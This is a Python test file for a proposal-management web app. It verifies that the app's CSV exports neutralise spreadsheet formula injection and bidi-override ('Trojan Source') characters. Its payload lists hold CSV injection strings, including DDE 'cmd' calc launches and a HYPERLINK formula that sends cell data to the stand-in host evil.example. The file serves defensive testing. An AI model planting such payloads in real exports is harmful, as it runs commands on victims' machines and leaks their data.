"""No CSV export lets a spreadsheet evaluate a cell: a title or a name that starts like a
formula (= + - @, a tab, a carriage return or a line feed, their full-width forms, or
any of them after spaces) gets a leading apostrophe; numbers stay numbers. Before the
fix a cell starting with a tab, a carriage return, a line feed, a full-width sign or
spaces went out as it was."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from opencall.people.models import User
from opencall.proposals.models import Proposal
from opencall.reviews.models import ReviewAssignment
from opencall.web.csv import FORMULA_START, csv_cell
from tests.scale.test_page_queries import world
from tests.web.conftest import Web

PAYLOADS = [
    "=HYPERLINK('http://evil.example/?'&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]


def _dangerous(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_START


def test_a_cell_is_never_a_formula() -> None:
    for text in PAYLOADS:
        # a tab or a line break that starts a cell starts a line of a spreadsheet reading
        # with semicolons too: what follows it gets its own apostrophe (trialcrowd23)
        inner = text[0] in "\t\r\n"
        assert csv_cell(text) == "'" + (text[0] + "'" + text[1:] if inner else text)
    for number in ("-5", "+1.5", "-0.25", "12"):
        assert csv_cell(number) == number
    assert csv_cell("Pulsars - timing") == "Pulsars - timing"


def test_the_exports_quote_formulas(web: Web, factory: sessionmaker[Session]) -> None:
    data = world(factory, len(PAYLOADS))  # every payload through the exports
    with factory() as s:
        codes = data["codes"]
        props = s.scalars(select(Proposal).where(Proposal.code.in_(codes))).all()
        assert len(props) >= len(PAYLOADS)
        for p, text in zip(props, PAYLOADS, strict=False):
            p.title = text
        reviewer = s.scalars(
            select(User)
            .join(ReviewAssignment, ReviewAssignment.reviewer_id == User.id)
            .where(ReviewAssignment.proposal_id.in_([p.id for p in props]))
        ).first()
        assert reviewer is not None
        reviewer.name = "\t=cmd|' /C calc'!A0"
        s.commit()
    chair = web.login(data["chair"])
    slug = data["slug"]
    seen = 0
    for what in ("decisions", "assignment", "ranking", "schedule"):
        r = chair.get(f"/manage/calls/{slug}/{what}?format=csv")
        assert r.status_code == 200, (what, r.text[:300])
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
        for row in rows[1:]:
            for cell in row:
                if cell.startswith("'"):
                    seen += 1
                assert not _dangerous(cell), (what, cell)
    # each title in the decisions, assignment and ranking exports, and the reviewer's name
    assert seen >= 3 * len(PAYLOADS)


def test_a_cell_reorders_nothing_after_it() -> None:
    """Bidi embeddings, overrides and isolates (stored before names were cleaned, or in
    a free text) are left out of a cell: in a spreadsheet or a text viewer one reversed
    the rest of the cell or of the line ("Trojan Source"), and one before "=" hid a
    formula from the check above."""
    assert csv_cell("Ali \u202eTCEJER\u202c Hassan") == "Ali TCEJER Hassan"
    assert csv_cell("\u202e=1+1") == "'=1+1"
    assert csv_cell("\u2067-2+3+cmd\u2069") == "'-2+3+cmd"
    # the marks and joiners that scripts need are kept
    assert csv_cell("র\u200d্যাব \u200fمحمد") == "র\u200d্যাব \u200fمحمد"


#: formulas after a semicolon or a line break inside a cell (trialcrowd23): a
#: spreadsheet whose list separator is ";" (Excel in French, Spanish, German... locales:
#: the decimal mark is a comma) opens our comma-separated file splitting every line at
#: its semicolons, and a line break inside a quoted cell ends its record when a quote
#: read out of step leaves it unquoted; the text after either is a cell of its own
INNER_PAYLOADS = [
    'Pulsars;=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Pulsars; -2+3+cmd|' /C calc'!A0",
    "Pulsars;@SUM(1+1)*cmd|' /C calc'!A0",
    'Pulsars;"=1+1',
    "Pulsars;\t=1+1",
    "Pulsars\n=1+1",
    "Pulsars\r\n+1+cmd|' /C calc'!A0",
    "Pulsars;\uff1d1+1",
]


def _cells_read_with_semicolons(body: str) -> list[str]:
    """Every cell of ``body`` as a spreadsheet with ";" as its list separator reads it
    (Python's reader, lenient as spreadsheets are about a quote inside a cell)."""
    return [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]


def test_a_cell_after_a_semicolon_or_a_line_break_is_never_a_formula() -> None:
    for text in INNER_PAYLOADS:
        for before in ([], ["P-001"], ["P-001", "a, b"]):
            line = io.StringIO()
            csv.writer(line).writerow([*before, csv_cell(text), "x"])
            for cell in _cells_read_with_semicolons(line.getvalue()):
                assert not _dangerous(cell), (text, before, line.getvalue(), cell)
    # text without a formula keeps its semicolons and lines as they are
    assert csv_cell("Pulsars; timing\nin 2026") == "Pulsars; timing\nin 2026"


def test_the_exports_read_with_semicolons_hold_no_formula(
    web: Web, factory: sessionmaker[Session]
) -> None:
    data = world(factory, len(INNER_PAYLOADS))
    with factory() as s:
        props = s.scalars(select(Proposal).where(Proposal.code.in_(data["codes"]))).all()
        for p, text in zip(props, INNER_PAYLOADS, strict=False):
            p.title = text
        s.commit()
    chair = web.login(data["chair"])
    for what in ("decisions", "assignment", "ranking", "schedule"):
        r = chair.get(f"/manage/calls/{data['slug']}/{what}?format=csv")
        assert r.status_code == 200, (what, r.text[:300])
        for cell in _cells_read_with_semicolons(r.text.lstrip("\ufeff")):
            assert not _dangerous(cell), (what, cell)
